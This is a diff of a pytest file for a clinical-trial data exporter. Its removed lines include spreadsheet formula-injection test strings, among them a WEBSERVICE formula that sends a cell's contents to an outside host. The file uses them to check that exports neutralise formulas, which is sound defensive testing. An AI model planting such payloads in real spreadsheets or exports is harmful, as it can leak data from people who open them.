@@ -4,6 +4,7 @@ frames of the same rows.
 
 import csv
 import json
+from dataclasses import replace
 
 import duckdb
 import openpyxl
@@ -15,16 +16,20 @@ from extractor.apps.export import (
     Threshold,
     choose_tables,
     excel,
+    export_fhir,
     export_run,
     list_tables,
     neutralise,
 )
 from extractor.apps.export.frames import frame_tables
-from extractor.errors import ArgumentError, StoreError
+from extractor.errors import ArgumentError, MissingExtra, StoreError
 from extractor.schemas import TrialExtraction
 from tests.commands import read_lines
+from tests.tables import read_cases
 
 from .samples import SMALL
+
+CASES = read_cases(__file__)
 
 
 @pytest.fixture
@@ -58,15 +63,32 @@ def test_a_database_holds_all_tables_with_types_and_meanings(run, tmp_path):
             "SELECT column_name, data_type, comment FROM duckdb_columns() WHERE NOT internal"
         ).fetchall()
         views = database.execute(
-            "SELECT view_name FROM duckdb_views() WHERE NOT internal"
-        )
-        names = {name for (name,) in views.fetchall()}
+            "SELECT view_name, comment FROM duckdb_views() WHERE NOT internal"
+        ).fetchall()
     kinds = {name: kind for name, kind, _ in columns}
     names_of_kinds = ("value_canonical", "criterion_index", "decides")
     found = [kinds[name] for name in names_of_kinds]
     assert found == ["DOUBLE", "BIGINT", "BOOLEAN"]
     assert ("masking", "VARCHAR", "NONE, SINGLE, DOUBLE, TRIPLE, QUADRUPLE.") in columns
-    assert names == {"bounds", "all_limits", "look_backs"}
+    assert {name for name, _ in views} == {"bounds", "all_limits", "look_backs"}
+    assert all(comment for *_, comment in (*columns, *views))
+
+
+@pytest.mark.parametrize(("name", "format_", "problem"), CASES["wrong_destinations"])
+def test_a_destination_has_the_suffix_of_its_format(
+    run, tmp_path, name, format_, problem
+):
+    with pytest.raises(ValueError, match=problem):
+        export(run, tmp_path / name, format_ and Format(format_))
+
+
+def test_a_missing_library_is_named(run, tmp_path, monkeypatch):
+    for module in ("export", "fhir"):
+        monkeypatch.setattr(f"extractor.apps.export.{module}.find_spec", lambda _: None)
+    with pytest.raises(MissingExtra, match="the format xlsx needs xlsxwriter"):
+        export(run, tmp_path / "t.xlsx")
+    with pytest.raises(MissingExtra, match=r"FHIR needs fhir\.resources"):
+        export_fhir([], tmp_path / "t")
 
 
 def write_cell(value):
@@ -122,22 +144,7 @@ def test_a_folder_describes_its_tables_and_is_always_the_same(run, tmp_path):
     assert read_csv(tmp_path / "first" / "criteria.csv")[0]["quote"] == "'=HYPERLINK(1)"
 
 
-FORMULAS = (
-    *(
-        "=1+1",
-        "+1",
-        "-1+1",
-        "@SUM(A1)",
-        "\t=1",
-        "\r=1",
-        "\n=1",
-        " =1",
-        "'=1",
-        '"=1',
-        "＝1",
-    ),
-    *("a;=1", "a\n-1", "a,@x", "a\t+1"),
-)
+FORMULAS = CASES["formulas"]
 
 
 @pytest.mark.parametrize("text", FORMULAS)
@@ -152,25 +159,15 @@ def test_no_program_reads_a_text_of_csv_as_a_formula(text):
                 assert begin not in tuple("=+-@＝＋－＠"), (separator, cell)
 
 
-@pytest.mark.parametrize(
-    "text", ["18-65 years", "> 3 x ULN", "a = b", "day -7, -5", "", "="]
-)
+@pytest.mark.parametrize("text", CASES["no_formulas"])
 def test_other_texts_do_not_change(text):
     assert neutralise(text) == text
 
 
-ARRAYS = (
-    '{=WEBSERVICE("http://a.b/"&A1)}',
-    "{=1+1}",
-    "internal:A1",
-    "http://a.b",
-    "12",
-)
-
-
 def test_a_text_in_a_workbook_stays_as_it_is(tmp_path):
-    texts = (*FORMULAS, *ARRAYS, "nan")
-    (table,) = choose_tables([], ["records"])[:1]
+    texts = [*FORMULAS, *CASES["texts_for_a_workbook"]]
+    (table,) = choose_tables([], ["records"])
+    table = replace(table, name="custom_" + 31 * "x")
     lines = [
         json.dumps({column.name: text for column in table.columns}) for text in texts
     ]
@@ -178,9 +175,9 @@ def test_a_text_in_a_workbook_stays_as_it_is(tmp_path):
 
     excel.write_workbook(tmp_path / "a.xlsx", [table], {table.name: tmp_path / "rows"})
 
-    sheet = openpyxl.load_workbook(tmp_path / "a.xlsx")[table.name]
+    sheet = openpyxl.load_workbook(tmp_path / "a.xlsx")[f"{table.name[:27]}~0"]
     cells = [cell for (cell,) in sheet.iter_rows(min_row=2, max_col=1)]
-    assert [cell.value.replace("_x000D_", "\r") for cell in cells] == list(texts)
+    assert [cell.value.replace("_x000D_", "\r") for cell in cells] == texts
     assert {(cell.data_type, cell.hyperlink) for cell in cells} == {("s", None)}
 
 
@@ -200,31 +197,24 @@ def test_a_table_that_no_sheet_holds_is_refused(run, tmp_path, monkeypatch):
     assert not (tmp_path / "trials.xlsx").exists()
 
 
-REPLACED = pytest.mark.parametrize(
+@pytest.mark.parametrize(
     ("name", "format_"), [("t.duckdb", None), ("t", Format.CSV), ("t", Format.PARQUET)]
 )
-
-
-@REPLACED
-def test_an_earlier_export_is_replaced_only_on_demand(run, tmp_path, name, format_):
+def test_an_earlier_export_is_replaced_on_demand_unless_the_new_one_fails(
+    run, tmp_path, name, format_
+):
     to = tmp_path / name
     export(run, to, format_)
     with pytest.raises(ArgumentError, match="--force"):
         export(run, to, format_)
     assert export(run, to, format_, force=True)["records"] == 3
-
-
-@REPLACED
-def test_a_failure_keeps_an_earlier_export(run, tmp_path, name, format_):
-    to = tmp_path / name
-    export(run, to, format_)
     files = [to] if to.is_file() else sorted(to.iterdir())
     contents = [path.read_bytes() for path in files]
     listed = sorted(path.name for path in tmp_path.iterdir())
     with (run / "extractions.jsonl").open("a") as file:
         file.write('{"record_id": "torn')
 
-    with pytest.raises(StoreError, match="line 4: is not an extraction"):
+    with pytest.raises(StoreError, match="line 4: is not a valid extraction"):
         export(run, to, format_, force=True)
 
     assert [path.read_bytes() for path in files] == contents
@@ -235,13 +225,13 @@ def test_a_folder_of_other_files_is_never_replaced(run, tmp_path):
     other = tmp_path / "mine"
     other.mkdir()
     (other / "thesis.csv").write_text("precious")
-    with pytest.raises(StoreError, match="holds other files"):
+    with pytest.raises(StoreError, match="contains other files"):
         export(run, other, Format.CSV, force=True)
     assert (other / "thesis.csv").read_text() == "precious"
 
 
 def test_gold_is_read_file_by_file_and_a_broken_one_is_named(tmp_path):
-    with pytest.raises(StoreError, match="holds no results"):
+    with pytest.raises(StoreError, match="contains no results"):
         export(tmp_path, tmp_path / "t.duckdb")
     gold = tmp_path / "gold"
     gold.mkdir()
@@ -258,35 +248,10 @@ def test_gold_is_read_file_by_file_and_a_broken_one_is_named(tmp_path):
         export(gold, tmp_path / "t", Format.CSV, force=True)
 
 
-ALT = {"quantity": "ALT", "comparator": "<=", "value": 3, "unit": "x ULN"}
-CRITERION = {"kind": "inclusion", "section": "eligibility", "quote": "f"}
-
-
-def prove(field, confidence):
-    place = {"section": "eligibility", "start": 0, "end": 1, "quote": "f"}
-    found = {"origin": "rule", "support": "parsed", "confidence": confidence}
-    return {"field": field, **place, **found}
-
-
 def test_a_limit_of_some_stays_one_when_its_doubtful_sibling_is_left_out(tmp_path):
-    ill = ALT | {"value": 5, "condition": "with liver metastases"}
-    other = {"quantity": "bilirubin", "comparator": "<=", "value": 2, "unit": "mg/dL"}
-    fields = ("quote", "constraints[0]", "constraints[1]", "constraints[2]")
-    evidence = [prove(field, 0.9) for field in fields]
-    evidence.append(prove("constraints[1].condition", 0.5))
-    criteria = [
-        # left out, so that positions move
-        CRITERION | {"evidence": [prove("quote", 0.5)]},
-        CRITERION | {"constraints": [ALT, ill, other], "evidence": evidence},
-        CRITERION | {"constraints": [ALT], "group": "g", "evidence": evidence[:2]},
-    ]
-    people = {
-        "criteria": criteria,
-        "groups": [{"id": "g", "rule": "any", "lead_in": "f"}],
-        "evidence": [prove("groups[0]", 0.5)],
-    }
-    trial = TrialExtraction.model_validate({"record_id": "A", "eligibility": people})
-    (tmp_path / "extractions.jsonl").write_text(trial.model_dump_json(), "utf-8")
+    """The first criterion is left out, so that positions move."""
+    trial = json.dumps(CASES["a_trial_with_doubtful_siblings"])
+    (tmp_path / "extractions.jsonl").write_text(trial, "utf-8")
 
     to = Destination(tmp_path / "tables", Format.JSONL)
     export_run(tmp_path, to, threshold=Threshold(0.8))
